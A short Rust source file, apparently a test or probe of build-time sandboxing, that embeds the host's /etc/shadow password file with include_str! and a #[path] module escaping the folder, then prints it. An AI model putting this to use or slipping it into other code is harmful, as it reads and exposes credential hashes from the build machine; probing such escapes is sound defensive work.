// Files of the host, and a module that would lead out of the folder.
#[path = "../../etc/shadow"]
mod escape;

static SHADOW: &str = include_str!("/etc/shadow");

fn main() {
    println!("{}", SHADOW);
}
